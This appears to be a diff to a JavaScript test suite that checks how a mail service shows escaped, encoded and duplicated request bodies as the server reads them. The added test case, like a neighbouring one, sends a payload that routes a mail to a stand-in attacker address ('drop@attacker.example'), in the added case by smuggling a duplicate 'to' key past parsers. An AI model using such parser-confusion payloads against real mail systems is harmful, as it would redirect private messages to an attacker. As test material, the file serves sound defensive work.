@@ -427,6 +427,8 @@ t.test('escaped and encoded bodies and URLs are shown as the server reads them, 
     '/v1/read-json': curl('POST', '/v1/read-json', { body: `{"to": "${esc}"}` }),
     '/v1/read-multipart': curl('POST', '/v1/read-multipart', { body: `--b\r\nContent-Disposition: form-data; name="mail"\r\nContent-Transfer-Encoding: base64\r\n\r\n${b64}\r\n--b--\r\n`, type: 'multipart/form-data; boundary=b' }),
     '/v1/read-utf16': curl('POST', '/v1/read-utf16', { file: utf16 }),
+    // Duplicate keys: the parsers that keep the first one send the mail elsewhere.
+    '/v1/read-duplicate': curl('POST', '/v1/read-duplicate', { body: '{"to": "drop@attacker.example", "to": "team@corp.example"}' }),
     // A mail sent as Gmail's API takes it: the whole message base64url in one JSON string.
     '/v1/read-base64': curl('POST', '/v1/read-base64', { body: JSON.stringify({ raw: Buffer.from('To: drop@attacker.example\r\nSubject: hi\r\n\r\nthe quarterly numbers').toString('base64url') }) }),
     [`/v1/read-query?to=${pct}`]: curl('POST', `/v1/read-query?to=${pct}`, { body: '{}' }),
